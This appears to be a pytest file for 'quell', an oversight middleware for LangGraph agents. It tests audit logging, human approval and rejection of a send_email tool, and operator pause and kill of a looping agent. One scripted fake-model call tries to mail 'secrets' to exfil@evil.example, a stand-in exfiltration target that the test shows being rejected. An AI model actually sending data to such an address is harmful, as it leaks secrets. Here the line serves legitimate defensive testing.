"""A real LangChain/LangGraph agent (`create_agent`, only the chat model faked, no network) under
quell through QuellMiddleware, listed, decided, paused, killed and verified by the real quell binary."""

import itertools
import json
import threading
import time

from langchain.agents import create_agent
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage
from langchain_core.tools import tool
from langgraph.checkpoint.memory import InMemorySaver

from quell_agent import EmbeddedStore, Killed, Runtime
from quell_agent.langgraph import QuellMiddleware, session_id_for_thread
from helpers import pending_approval, quell, replay, sessions, wait_for

SENT = []


@tool
def crm_lookup(customer: str) -> str:
    """Looks a customer up."""
    return f"{customer}: premium, 3 open tickets"


@tool
def send_email(to: str, body: str) -> str:
    """Sends an e-mail."""
    SENT.append(to)
    return f"sent to {to}"


class ToolCallingFake(GenericFakeChatModel):
    """The fake chat model create_agent can bind tools to."""

    def bind_tools(self, tools, **kwargs):
        return self


def scripted(*messages):
    return ToolCallingFake(messages=iter(messages))


def call(name, args, n):
    return AIMessage(content="", tool_calls=[{"name": name, "args": args, "id": f"call-{n}"}],
                     usage_metadata={"input_tokens": 40, "output_tokens": 8, "total_tokens": 48})


def test_a_langgraph_run_is_a_verified_quell_session_with_llm_and_tool_entries(store):
    model = scripted(call("crm_lookup", {"customer": "ACME"}, 1), AIMessage(content="ACME is premium."))
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "support-agent", model="fake-chat", allowed_tools=["crm_lookup"])
        agent = create_agent(model, [crm_lookup], checkpointer=InMemorySaver(), middleware=[mw])
        out = agent.invoke({"messages": [{"role": "user", "content": "who is ACME?"}]},
                           {"configurable": {"thread_id": "t-support-1"}})
        assert out["messages"][-1].content == "ACME is premium."
    listed = sessions(store)["t-support-1"]
    assert listed["agent"] == "support-agent" and listed["state"] == "finished"
    assert listed["tools"] == ["crm_lookup"] and listed["step"] == 2
    kinds = [e["kind"] for e in replay(store, "t-support-1")]
    assert kinds == ["session_started", "llm_call", "checkpoint", "tool_call", "tool_result", "llm_call",
                     "checkpoint", "session_ended"]
    llm = next(e for e in replay(store, "t-support-1") if e["kind"] == "llm_call")
    assert llm["gen_ai.usage.input_tokens"] == 40
    assert llm["tool_calls"] == [{"gen_ai.tool.name": "crm_lookup", "gen_ai.tool.call.arguments": {"customer": "ACME"}}]
    assert len(llm["input_hash"]) == 64 and "who is ACME" not in json.dumps(llm), "never the raw input"
    assert quell(store, "verify").returncode == 0
    shown = json.loads(quell(store, "show", "t-support-1", "-o", "json").stdout)
    assert sum(1 for e in shown["entries"] if "checkpoint" in json.dumps(e)[:200]) >= 2


def test_a_high_stakes_tool_waits_for_quell_and_a_rejection_is_told_to_the_model(store):
    SENT.clear()
    model = scripted(
        call("send_email", {"to": "ok@example.com", "body": "hi"}, 1), AIMessage(content="done"),
        call("send_email", {"to": "exfil@evil.example", "body": "secrets"}, 2), AIMessage(content="could not"),
    )
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "mail-agent", approvals={"send_email": "high"})
        agent = create_agent(model, [send_email], checkpointer=InMemorySaver(), middleware=[mw])
        results = {}

        def run(thread):
            results[thread] = agent.invoke({"messages": [{"role": "user", "content": "mail"}]},
                                           {"configurable": {"thread_id": thread}})

        for thread, verb in (("t-mail-ok", "approve"), ("t-mail-bad", "reject")):
            t = threading.Thread(target=run, args=(thread,))
            t.start()
            request = pending_approval(store)
            assert request["session_id"] == thread and request["tool"] == "send_email"
            assert sessions(store)[thread]["state"] == "waiting_approval"
            quell(store, verb, request["id"], "--reason", "checked by on-call")
            t.join(60)
            assert not t.is_alive()
    assert SENT == ["ok@example.com"], "the rejected e-mail was never sent"
    refused = [m for m in results["t-mail-bad"]["messages"] if getattr(m, "status", None) == "error"]
    assert refused and "rejected" in refused[0].content
    decided = [e["attributes"]["quell.approval.status"] for e in replay(store, "t-mail-bad")
               if e["kind"] == "approval_decided"]
    assert decided == ["rejected"]
    assert quell(store, "verify").returncode == 0


def test_pause_holds_a_looping_langgraph_agent_and_kill_stops_it(store):
    loop = (call("crm_lookup", {"customer": f"c{i}"}, i) for i in itertools.count())
    model = ToolCallingFake(messages=loop)
    with Runtime(EmbeddedStore(store)) as rt:
        mw = QuellMiddleware(rt, "research-agent")
        saver = InMemorySaver()
        agent = create_agent(model, [crm_lookup], checkpointer=saver, middleware=[mw])
        outcome = {}

        def run():
            try:
                agent.invoke({"messages": [{"role": "user", "content": "research"}]},
                             {"configurable": {"thread_id": "t-loop"}, "recursion_limit": 100_000})
            except Killed as e:
                outcome["killed"] = str(e)

        t = threading.Thread(target=run)
        t.start()
        wait_for("a few steps", lambda: sessions(store).get("t-loop", {}).get("step", 0) >= 3)
        p = quell(store, "pause", "t-loop", "--reason", "runaway", "--wait", "10")
        assert "1 acknowledged" in p.stdout
        held = sessions(store)["t-loop"]["step"]
        time.sleep(0.5)
        assert sessions(store)["t-loop"]["step"] == held, "no step while paused"
        quell(store, "kill", "t-loop", "--reason", "loop", "--wait", "10")
        t.join(60)
        assert "killed by an operator" in outcome.get("killed", "")
    assert sessions(store)["t-loop"]["state"] == "killed"
    assert saver.get({"configurable": {"thread_id": "t-loop"}}) is not None, "LangGraph kept the thread"
    assert quell(store, "verify").returncode == 0


def test_thread_ids_outside_quells_alphabet_map_to_a_stable_id_and_are_kept(store):
    assert session_id_for_thread("t-1") == "t-1"
    odd = session_id_for_thread("user 42 / chat ✉")
    assert odd.startswith("lg-") and odd == session_id_for_thread("user 42 / chat ✉")
    model = scripted(AIMessage(content="hello"))
    with Runtime(EmbeddedStore(store)) as rt:
        agent = create_agent(model, [crm_lookup], checkpointer=InMemorySaver(),
                             middleware=[QuellMiddleware(rt, "chat-agent")])
        agent.invoke({"messages": [{"role": "user", "content": "hi"}]},
                     {"configurable": {"thread_id": "user 42 / chat ✉"}})
    started = replay(store, odd)[0]
    assert started["attributes"]["quell.langgraph.thread_id"] == "user 42 / chat ✉"
    assert sessions(store)[odd]["state"] == "finished"
